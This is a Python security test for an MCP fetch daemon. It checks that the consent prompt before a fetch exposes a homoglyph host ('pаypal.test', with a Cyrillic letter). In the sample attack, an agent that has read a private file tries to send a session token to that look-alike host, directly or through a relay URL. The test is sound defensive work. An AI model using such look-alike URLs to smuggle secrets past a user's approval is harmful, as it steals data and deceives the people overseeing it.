"""An attacker's-eye review of the exit rule's question and of what it sees inside a URL (exits by information flow,
exitflow.py): the question the MCP face asks before a held fetch must name every host in a form that cannot pass
for another one, since the user's yes sends what the session read there.

Real daemon, its real ``/mcp`` over TCP, a real MCP SDK client answering the question like a user who reads it."""

from __future__ import annotations

from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from mcp_types import ElicitResult
from trawl.server.runner import RunningDaemon

from tests.security.test_exit_flow_daemon import mcp_daemon  # noqa: F401 (the fixture: a daemon, a private file)
from tests.security.test_exits import TOKEN
from tests.security.test_mcp_roots import http_client, out_of

pytestmark = [pytest.mark.timeout(120)]

LOOKALIKE = "p\u0430ypal.test"  # a Cyrillic "а" (U+0430) among Latin letters: reads as paypal.test
LOOKALIKE_ASCII = "xn--pypal-4ve.test"  # the name the connection asks for


def _a_user_who_trusts_the_name_they_read() -> Any:
    """A user who says yes to a site they know by name, and no when the question shows them that the name is not
    the one they know (its ASCII form, a mark on mixed scripts)."""
    asked: list[str] = []

    async def elicit(_ctx: Any, params: Any) -> ElicitResult:
        message = str(params.message)
        asked.append(message)
        return ElicitResult(action="accept", content={"send": "xn--" not in message and "Cyrillic" not in message})

    elicit.asked = asked  # type: ignore[attr-defined]
    return elicit


# ------------------------------------------------------------------------------------------- look-alike hosts
@pytest.mark.parametrize("where", ["the URL's own host", "a host named inside the URL"])
async def test_a_look_alike_host_is_named_in_a_form_that_cannot_pass_for_the_site_it_imitates(
        mcp_daemon: RunningDaemon, tmp_path: Path, where: str) -> None:  # noqa: F811
    """After a private read, the agent asks for ``https://pаypal.test/…`` (Cyrillic "а"), or for a trusted relay's URL
    with it inside. The question named it as written, "a page on pаypal.test": a user who knows paypal.test read
    their site and said yes. It must show the ASCII name the connection asks for and mark the mixed scripts."""
    inner = f"http://{LOOKALIKE}/signin?session={TOKEN}"
    url = inner if where == "the URL's own host" else f"http://127.0.0.21:9/translate?u={quote(inner, safe=':/')}"
    elicit = _a_user_who_trusts_the_name_they_read()
    async with http_client(mcp_daemon, elicitation_callback=elicit) as c:
        read = out_of(await c.call_tool("fetch_page", {"url": str(tmp_path / "secrets.md"), "query": ""}))
        assert read.ok, read
        out = out_of(await c.call_tool("fetch_page", {"url": url, "query": "sign in"}))

    assert len(elicit.asked) == 1, elicit.asked
    question = elicit.asked[0]
    assert LOOKALIKE_ASCII in question, f"the question named the look-alike only as it reads: {question}"
    assert "Cyrillic" in question and "mixes" in question, question
    # the letters themselves appear only inside the annotation that says what they are
    assert question.count(LOOKALIKE) == question.count(f'international name "{LOOKALIKE}"'), question
    assert not out.ok and out.error is not None and out.error.code == "exit_refused", out
